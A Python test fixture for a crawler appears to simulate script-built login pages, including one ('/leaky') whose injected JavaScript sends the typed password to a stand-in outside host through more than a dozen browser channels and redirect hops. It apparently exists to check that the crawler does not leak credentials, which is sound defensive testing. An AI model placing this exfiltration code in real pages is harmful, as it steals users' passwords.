"""Logins that need scripts: forms that they make, and what they send."""

import json
import secrets

from crawlyard.demo.request import HttpRequest
from crawlyard.demo.site import HTML, Answer
from tests.login_site import PASSWORD, USER, LoginSite

_FORM = """<form id=in><label>Mail<input id=mail></label><input id=pw name=pw type=password>
<select name=tenant><option>one<option>two</select><input type=checkbox name=stay>
<button disabled>Log in</button></form>"""

_FETCHED = """
const root = document.getElementById('root');
const cookie = (name) => document.cookie.match(`${name}=([^;]*)`)[1];
(async () => {
  await fetch('/api/csrf');
  root.innerHTML = FORM;
  const form = root.querySelector('form'), of = (css) => form.querySelector(css);
  form.addEventListener('input', () => {
    of('button').disabled = !(of('#mail').value && of('#pw').value) });
  form.addEventListener('submit', async (event) => {
    event.preventDefault();
    const told = {mail: of('#mail').value, pw: of('#pw').value, tenant: of('select').value,
      stay: of('[name=stay]').checked};
    LEAK
    const answer = await fetch('/api/login', {method: 'POST', body: JSON.stringify(told),
      headers: {'Content-Type': 'application/json', 'X-Csrf': cookie('csrf')}});
    if (!answer.ok || !(await answer.json()).ok) return;
    document.cookie = 'theme=dark; Path=/';
    setTimeout(() => { location.href = '/public' }, 900);
  });
})();
""".replace("FORM", json.dumps(_FORM))

LEAK = r"""
    const to = 'CANARY', pw = encodeURIComponent(told.pw);
    const tried = (attempt) => { try { attempt() } catch { } };
    const add = (tag, of) => document.body.append(Object.assign(document.createElement(tag), of));
    for (const method of ['GET', 'POST'])
      tried(() => fetch(`${to}/f?${pw}`, {method, mode: 'no-cors',
        body: method === 'GET' ? null : told.pw}).catch(() => {}));
    tried(() => navigator.sendBeacon(`${to}/b`, told.pw));
    tried(() => { const r = new XMLHttpRequest(); r.open('POST', `${to}/x`); r.send(told.pw) });
    tried(() => { new Image().src = `${to}/i?${pw}` });
    tried(() => add('script', {src: `${to}/s.js?${pw}`}));
    tried(() => add('link', {rel: 'stylesheet', href: `${to}/c.css?${pw}`}));
    tried(() => add('iframe', {src: `${to}/d?${pw}`}));
    tried(() => new WebSocket(`${to.replace('http', 'ws')}/w?${pw}`));
    tried(() => new EventSource(`${to}/e?${pw}`));
    tried(() => window.open(`${to}/o?${pw}`));
    tried(() => fetch(`/hop?${pw}`, {method: 'POST', body: told.pw}).catch(() => {}));
    await fetch(`/hop?${pw}`, {mode: 'no-cors'}).catch(() => {});
"""

_POSTED = """
fetch('/api/token').then((answer) => answer.json()).then((token) => {
  setTimeout(() => {
    document.body.innerHTML = `<form action=/search><input name=q></form>
      <form action="ACTION" method=post><input type=hidden name=csrf value="${token}">
      <input name=user><input name=pw type=password><button name=go value=in>Log in</button></form>`
  }, 700);
});
"""


class ScriptedLoginSite(LoginSite):
    """The pages of a `LoginSite`, with logins that scripts make.

    ``/login`` sends its form by fetch(), with a token from a cookie, and is refused by 401;
    ``/soft`` in JSON. ``/bare`` comes with that form in it. ``/posted`` makes one late, and
    ``/outward`` one for the origin *outside*. ``/leaky`` tells the password to *outside* by all
    ways before it logs in. A redirect after a wrong password has it in its URL.
    """

    def answer_request(self, request: HttpRequest) -> Answer:
        path, _, query = request.path.partition("?")
        scripts = {
            "/login": _FETCHED.replace("LEAK", ""),
            "/bare": _FETCHED.replace("LEAK", ""),
            "/soft": _FETCHED.replace("LEAK", "").replace("/api/login", "/api/login?soft"),
            "/leaky": _FETCHED.replace("LEAK", LEAK.replace("CANARY", self.outside)),
            "/posted": _POSTED.replace("ACTION", "/session"),
            "/outward": _POSTED.replace("ACTION", f"{self.outside}/session"),
            "/empty": "document.title = 'Nothing'",
        }
        if path == "/hop":
            return Answer(307, (("Location", f"{self.outside}/hop?{query}"),))
        if path in {"/api/csrf", "/api/token"}:
            return self._token()
        if path in scripts:
            root = "<div id=root></div>" if path != "/bare" else f"<div id=root>{_FORM}</div>"
            text = f"<title>Log in</title>{root}<script>{scripts[path]}</script>"
            cookie = ("Set-Cookie", "visit=1; Path=/; HttpOnly")
            return Answer(200, (("Content-Type", HTML), cookie), text.encode())
        return super().answer_request(request)

    def _token(self) -> Answer:
        token = secrets.token_hex(8)
        self.tokens.add(token)
        cookie = ("Set-Cookie", f"csrf={token}; Path=/; SameSite=Strict")
        return _json(200, token, cookie)

    def answer_post(self, request: HttpRequest) -> Answer:
        if request.path.startswith("/hop"):
            return self.answer_request(request)
        if not request.path.startswith("/api/login"):
            answer = super().answer_post(request)
            if answer.headers[:1] == (("Location", "/login?failed"),):
                answer = Answer(302, (("Location", f"/login?{request.body.decode()}"),))
            return answer
        credentials, token = json.loads(request.body), request.headers.get("x-csrf", "")
        same = f"csrf={token}" in request.headers.get("cookie", "")
        if not (same and token in self.tokens and "visit=1" in request.headers["cookie"]):
            return _json(403, "no token")
        if credentials != {"mail": USER, "pw": PASSWORD, "tenant": "two", "stay": True}:
            return _json(200 if "soft" in request.path else 401, {"ok": False})
        session = secrets.token_hex(8)
        self.sessions[session] = 0
        self.logins += 1
        return _json(200, {"ok": True}, ("Set-Cookie", f"sid={session}; Path=/; HttpOnly"))


def _json(status: int, value: object, *headers: tuple[str, str]) -> Answer:
    kind = ("Content-Type", "application/json")
    return Answer(status, (kind, *headers), json.dumps(value).encode())
